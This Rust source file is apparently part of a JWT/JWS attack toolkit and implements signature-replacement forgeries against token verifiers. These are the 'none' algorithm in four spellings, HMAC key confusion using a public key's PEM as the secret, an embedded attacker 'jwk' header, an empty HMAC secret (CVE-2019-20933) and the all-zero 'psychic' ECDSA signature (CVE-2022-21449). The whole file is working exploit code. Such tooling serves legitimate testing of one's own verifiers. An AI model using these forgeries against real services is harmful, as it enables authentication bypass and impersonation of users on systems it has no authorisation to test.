// Copyright (C) 2020-2025  The Blockhouse Technology Limited (TBTL).
//
// This program is free software: you can redistribute it and/or modify it
// under the terms of the GNU Affero General Public License as published by
// the Free Software Foundation, either version 3 of the License, or (at your
// option) any later version.
//
// This program is distributed in the hope that it will be useful, but
// WITHOUT ANY WARRANTY; without even the implied warranty of MERCHANTABILITY
// or FITNESS FOR A PARTICULAR PURPOSE.  See the GNU Affero General Public
// License for more details.
//
// You should have received a copy of the GNU Affero General Public License
// along with this program.  If not, see <https://www.gnu.org/licenses/>.


//! Attacks that replace the signature of a token.

use bh_jose::{construct_jws_signing_input, json_object, Base64Url, Header, Jws};
use bh_jose_keys::{sign_parts, HmacSigner, JoseKey, JwsAlgorithm, Key, Signer};
use bherror::{traits::PropagateError as _, Error, Result};

use crate::AttackError;

/// DER encoding of an ECDSA signature with `r` and `s` both zero.
const PSYCHIC_SIGNATURE: [u8; 8] = [0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00];

/// Spellings of the `none` algorithm that verifiers may fail to recognize.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum NoneVariant {
    /// `none`
    Lowercase,
    /// `None`
    Capitalized,
    /// `NONE`
    Uppercase,
    /// `nOnE`
    MixedCase,
}

impl NoneVariant {
    /// Every spelling, in the order they are offered.
    pub const ALL: [Self; 4] = [
        Self::Lowercase,
        Self::Capitalized,
        Self::Uppercase,
        Self::MixedCase,
    ];

    /// The `"alg"` header value.
    pub fn as_str(&self) -> &'static str {
        match self {
            Self::Lowercase => "none",
            Self::Capitalized => "None",
            Self::Uppercase => "NONE",
            Self::MixedCase => "nOnE",
        }
    }
}

impl std::fmt::Display for NoneVariant {
    fn fmt(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Replaces the header with `{"typ":"JWT","alg":<variant>}` and removes the
/// signature.
pub fn none_signing(jws: &Jws, variant: NoneVariant) -> Jws {
    let header = Header::from_json(json_object!({
        "typ": "JWT",
        "alg": variant.as_str(),
    }));

    Jws::from_parts(
        header.encoded().clone(),
        jws.claims().encoded().clone(),
        Base64Url::empty(),
    )
}

/// Signs the payload of `jws` with an HMAC `algorithm`, using the public key
/// of `key` in PEM form as the secret.
///
/// A verifier that picks the verification algorithm from the token and loads
/// its RSA or EC public key as PEM text accepts the result. The PEM document
/// ends with a newline; `trailing_newline` set to `false` strips it, for
/// verifiers that trim the key they load.
///
/// The header is replaced with `{"typ":"JWT","alg":<algorithm>}`.
pub fn hmac_key_confusion(
    jws: &Jws,
    key: &Key,
    algorithm: JwsAlgorithm,
    trailing_newline: bool,
) -> Result<Jws, AttackError> {
    check_hmac(algorithm)?;
    if !key.is_public() {
        return Err(Error::root(AttackError::UnsupportedKey(format!(
            "{} keys have no public key",
            key.description()
        ))));
    }

    let mut pem = key
        .to_public_pem()
        .match_err(|error| AttackError::UnsupportedKey(error.to_string()))?;
    if !trailing_newline {
        let length = pem.trim_end_matches('\n').len();
        pem.truncate(length);
    }

    let header = Header::from_json(json_object!({
        "typ": "JWT",
        "alg": algorithm.to_string(),
    }));
    hmac_sign(jws, pem.as_bytes(), algorithm, header)
}

/// Signs the payload of `jws` with `key`, embedding the key as the `"jwk"`
/// header member.
///
/// Asymmetric keys embed their public JWK, other keys their full JWK. The
/// header is replaced with `kid`, `typ`, `alg` and `jwk` members, in that
/// order.
pub fn embedded_jwk(jws: &Jws, key: &Key, algorithm: JwsAlgorithm) -> Result<Jws, AttackError> {
    let jwk = if key.is_public() {
        key.to_public_jwk()
    } else {
        key.to_jwk()
    }
    .match_err(|error| AttackError::UnsupportedKey(error.to_string()))?;

    let header = Header::from_json(json_object!({
        "kid": key.id(),
        "typ": "JWT",
        "alg": algorithm.to_string(),
        "jwk": jwk,
    }));

    sign_parts(key, algorithm, header, jws.claims().encoded().clone())
        .match_err(|error| AttackError::SigningFailed(error.to_string()))
}

/// Signs `jws` with an empty HMAC secret, setting `"alg"` to `algorithm`.
///
/// Exploits verifiers that fall back to an empty secret when none is
/// configured (CVE-2019-20933).
pub fn sign_with_empty_key(jws: &Jws, algorithm: JwsAlgorithm) -> Result<Jws, AttackError> {
    check_hmac(algorithm)?;

    let header = jws.header().with_algorithm(&algorithm.to_string());
    hmac_sign(jws, &[], algorithm, header)
}

/// Replaces the signature with an ECDSA signature whose `r` and `s` are both
/// zero, setting `"alg"` to `algorithm`.
///
/// Verifiers that do not range check `r` and `s` accept it for any message and
/// key (CVE-2022-21449). The signature is DER encoded, since the shortest
/// valid DER integer is all the affected verifiers require.
pub fn sign_with_psychic_signature(
    jws: &Jws,
    algorithm: JwsAlgorithm,
) -> Result<Jws, AttackError> {
    if !JwsAlgorithm::ECDSA.contains(&algorithm) {
        return Err(Error::root(AttackError::InvalidAlgorithm(format!(
            "{algorithm}, only ES256, ES384 and ES512 can be used"
        ))));
    }

    let header = jws.header().with_algorithm(&algorithm.to_string());
    Ok(Jws::from_parts(
        header.encoded().clone(),
        jws.claims().encoded().clone(),
        Base64Url::encode(PSYCHIC_SIGNATURE),
    ))
}

fn check_hmac(algorithm: JwsAlgorithm) -> Result<(), AttackError> {
    if algorithm.is_hmac() {
        Ok(())
    } else {
        Err(Error::root(AttackError::InvalidAlgorithm(format!(
            "{algorithm}, only HMAC algorithms can be used"
        ))))
    }
}

fn hmac_sign(
    jws: &Jws,
    secret: &[u8],
    algorithm: JwsAlgorithm,
    header: Header,
) -> Result<Jws, AttackError> {
    let signer = HmacSigner::new(secret, algorithm)
        .match_err(|error| AttackError::InvalidAlgorithm(error.to_string()))?;

    let payload = jws.claims().encoded().clone();
    let signing_input =
        construct_jws_signing_input(header.encoded().as_encoded(), payload.as_encoded());
    let signature = signer
        .sign(signing_input.as_bytes())
        .match_err(|error| AttackError::SigningFailed(error.to_string()))?;

    Ok(Jws::from_parts(
        header.encoded().clone(),
        payload,
        Base64Url::encode(signature),
    ))
}
